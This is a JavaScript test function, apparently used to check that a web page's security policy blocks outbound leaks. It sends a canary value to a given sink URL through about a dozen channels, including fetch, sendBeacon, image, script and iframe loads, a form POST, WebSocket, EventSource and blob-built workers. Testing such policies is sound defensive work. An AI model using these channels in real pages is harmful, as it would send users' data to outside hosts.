// How a page taken over could try to send an answer elsewhere; the page's policy has to stop each.
([sink, canary]) => {
  const address = `${sink}?${canary}`;
  const adds = (tag, properties) =>
    document.body.append(Object.assign(document.createElement(tag), properties));
  const inWorker = (address) => {
    const ways = [
      () => fetch(address, { mode: "no-cors" }).catch(() => 0),
      () => import(address).catch(() => 0),
      () => new WebSocket(address.replace("http", "ws")),
      () => new EventSource(address),
      () => new Worker(address),
      () => {
        const asked = new XMLHttpRequest();
        asked.open("GET", address);
        asked.send();
      },
    ];
    for (const way of ways) {
      try {
        way();
      } catch {
        continue;
      }
    }
  };
  const working = `(${inWorker})(${JSON.stringify(address)})`;
  const posted = Object.assign(document.createElement("form"), { action: sink, method: "post", target: "nowhere" });
  posted.append(Object.assign(document.createElement("input"), { name: "a", value: canary }));
  const ways = {
    fetch: () => fetch(address, { mode: "no-cors" }).catch(() => 0),
    beacon: () => navigator.sendBeacon(sink, canary),
    image: () => (new Image().src = address),
    style: () => adds("link", { rel: "stylesheet", href: address }),
    prefetch: () => adds("link", { rel: "prefetch", href: address }),
    script: () => adds("script", { src: address }),
    frame: () => adds("iframe", { src: address }),
    form: () => (document.body.append(posted), posted.submit()),
    socket: () => new WebSocket(address.replace("http", "ws")),
    "event source": () => new EventSource(address),
    worker: () => new Worker(address),
    "worker of ours": () =>
      new Worker(URL.createObjectURL(new Blob([working], { type: "text/javascript" })), { type: "module" }),
  };
  for (const way of Object.values(ways)) {
    try {
      way();
    } catch {
      continue; // refused at once is well refused
    }
  }
  return Object.keys(ways).length;
};
